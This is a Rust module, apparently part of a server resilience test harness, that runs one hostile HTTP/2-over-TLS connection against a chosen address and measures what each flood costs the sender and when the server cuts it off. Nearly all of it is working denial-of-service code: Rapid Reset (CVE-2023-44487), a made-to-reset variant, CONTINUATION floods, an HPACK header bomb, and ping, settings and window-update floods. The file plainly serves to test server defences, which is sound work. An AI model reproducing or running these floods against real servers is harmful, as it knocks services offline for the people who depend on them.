//! One hostile HTTP/2 connection over TLS for a while: frames that cost their sender little. Not for
//! judging what they cost the other side.
//!
//! Invariant: the attack ends with its time or with its connection; it does not come again.

use std::io::Read as _;
use std::net::SocketAddr;
use std::time::Duration;

use anyhow::Result;
use clap::{Args, ValueEnum};
use nix::sys::resource::{UsageWho, getrusage};
use nix::sys::time::TimeValLike as _;
use serde::{Deserialize, Serialize};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::timeout;
use tokio_rustls::TlsConnector;

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, block, field, frame, preface, request,
};
use super::{frames, tls};
use crate::l4::clock::now;

/// What is sent again and again.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum Attack {
    /// No attack: one request, and its answer is waited for.
    Nothing,
    /// A request and its reset (CVE-2023-44487).
    RapidReset,
    /// A request and a window update of 0, which makes the server reset it (CVE-2025-8671).
    MadeToReset,
    /// A header block that does not end, full frames.
    Continuation,
    /// The same of empty frames.
    EmptyContinuation,
    /// Pings, each to be answered.
    Ping,
    /// Settings, each to be acknowledged.
    Settings,
    /// A body of empty frames.
    EmptyData,
    /// Requests with 600 KB of header fields.
    HeaderList,
    /// Fields of 4 KB each, called from the compression table by one byte each.
    HeaderBomb,
    /// Window updates.
    WindowUpdate,
    /// Priorities.
    Priority,
    /// Frames of a kind that nobody knows.
    Unknown,
}

/// How to do it.
#[derive(Args, Clone, Debug)]
pub struct Plan {
    /// Where to.
    #[arg(long)]
    to: SocketAddr,
    /// What is sent.
    #[arg(long)]
    attack: Attack,
    /// For how long, in milliseconds.
    #[arg(long, default_value_t = 2500)]
    millis: u64,
}

/// What came of it.
#[derive(Clone, Debug, Default, Serialize, Deserialize)]
pub struct Cost {
    /// When the connection was cut, in ms; none: it was not.
    pub cut_ms: Option<f64>,
    /// Rounds of frames sent.
    pub batches: u64,
    /// Seconds of a processor from the connection's begin to its end.
    pub cpu: f64,
}

impl Plan {
    /// Says that it is ready, waits until standard input ends, and attacks.
    ///
    /// # Errors
    /// When it cannot begin.
    pub fn run(&self) -> Result<Cost> {
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
        runtime.block_on(self.attack())
    }

    async fn attack(&self) -> Result<Cost> {
        let connector = TlsConnector::from(tls::config(b"h2")?);
        let mut script = Script::new(self.attack);
        // What a process pays once is nobody's attack.
        let lawful = TcpStream::connect(self.to).await?;
        frames::ask(&mut connector.connect(tls::name(), lawful).await?).await?;
        super::tell(&"ready")?;
        std::io::stdin().lock().read_to_end(&mut Vec::new())?;
        let (before, begin) = (used()?, now());
        let stream = TcpStream::connect(self.to).await?;
        stream.set_nodelay(true)?;
        let mut stream = connector.connect(tls::name(), stream).await?;
        if self.attack == Attack::Nothing {
            frames::ask(&mut stream).await?;
            return Ok(Cost { cut_ms: Some(0.0), batches: 1, cpu: used()? - before });
        }
        stream.write_all(&[preface(), script.opening()].concat()).await?;
        let (mut reader, mut writer) = tokio::io::split(stream);
        let mut batches = 0;
        let write = async {
            loop {
                let sent = async {
                    writer.write_all(&script.batch()).await?;
                    writer.flush().await
                };
                if sent.await.is_err() {
                    break;
                }
                batches += 1;
                // The reader's turn, also when the socket takes everything at once.
                tokio::task::yield_now().await;
            }
        };
        let read = async {
            let mut scrap = vec![0; 64 * 1024];
            while matches!(reader.read(&mut scrap).await, Ok(1..)) {}
        };
        let cut = async {
            tokio::select! { () = write => {}, () = read => {} }
            (now() - begin) as f64 / 1e6
        };
        let cut_ms = timeout(Duration::from_millis(self.millis), cut).await.ok();
        Ok(Cost { cut_ms, batches, cpu: used()? - before })
    }
}

fn used() -> Result<f64> {
    let usage = getrusage(UsageWho::RUSAGE_SELF)?;
    let micros = usage.user_time().num_microseconds() + usage.system_time().num_microseconds();
    Ok(micros as f64 / 1e6)
}

/// The frames of an attack.
struct Script {
    attack: Attack,
    stream: u32,
}

/// Units of an attack that are written at once.
const BATCH: usize = 100;
/// What HTTP/2 lets a frame have unless told otherwise.
const FULL: usize = 16_384;

impl Script {
    fn new(attack: Attack) -> Self {
        Self { attack, stream: 1 }
    }

    /// Sent once.
    fn opening(&mut self) -> Vec<u8> {
        match self.attack {
            Attack::Continuation | Attack::EmptyContinuation => {
                frame(HEADERS, END_STREAM, self.next_stream(), &block(false))
            }
            Attack::EmptyData => frame(HEADERS, END_HEADERS, self.next_stream(), &block(true)),
            _ => Vec::new(),
        }
    }

    /// Sent again and again.
    fn batch(&mut self) -> Vec<u8> {
        match self.attack {
            // A few of them are large already.
            Attack::HeaderList => self.header_list(),
            Attack::HeaderBomb => self.header_bomb(),
            Attack::Continuation => frame(CONTINUATION, 0, 1, &field("x", &[b'x'; FULL - 6])),
            _ => (0..BATCH).flat_map(|_| self.unit()).collect(),
        }
    }

    fn unit(&mut self) -> Vec<u8> {
        match self.attack {
            Attack::RapidReset => {
                let stream = self.next_stream();
                [request(stream), frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
            }
            Attack::MadeToReset => {
                let stream = self.next_stream();
                [request(stream), frame(WINDOW_UPDATE, 0, stream, &[0; 4])].concat()
            }
            Attack::EmptyContinuation => frame(CONTINUATION, 0, 1, &[]),
            Attack::Ping => frame(PING, 0, 0, &[0; 8]),
            Attack::Settings => frame(SETTINGS, 0, 0, &[]),
            Attack::EmptyData => frame(DATA, 0, 1, &[]),
            Attack::WindowUpdate => frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
            Attack::Priority => frame(2, 0, 101, &[0, 0, 0, 0, 7]),
            Attack::Unknown => frame(99, 0, 0, &[0; 8]),
            Attack::HeaderList | Attack::HeaderBomb | Attack::Continuation | Attack::Nothing => {
                Vec::new()
            }
        }
    }

    /// 37 frames of one field each.
    fn header_list(&mut self) -> Vec<u8> {
        let stream = self.next_stream();
        let mut out = frame(HEADERS, END_STREAM, stream, &block(false));
        for number in 0..37 {
            let flags = if number == 36 { END_HEADERS } else { 0 };
            out.extend(frame(CONTINUATION, flags, stream, &field("x", &[b'x'; FULL - 6])));
        }
        out
    }

    /// RFC 7541 §6.2.1: a field that enters the table, then calls of it: 62 is its newest entry.
    fn header_bomb(&mut self) -> Vec<u8> {
        let stream = self.next_stream();
        let mut fields = block(false);
        let mut large = field("x", &[b'x'; 4000]);
        large[0] = 0x40;
        fields.extend(large);
        fields.extend(std::iter::repeat_n(0x80 | 62, 12_000));
        frame(HEADERS, END_HEADERS | END_STREAM, stream, &fields)
    }

    fn next_stream(&mut self) -> u32 {
        let stream = self.stream;
        self.stream += 2;
        stream
    }
}
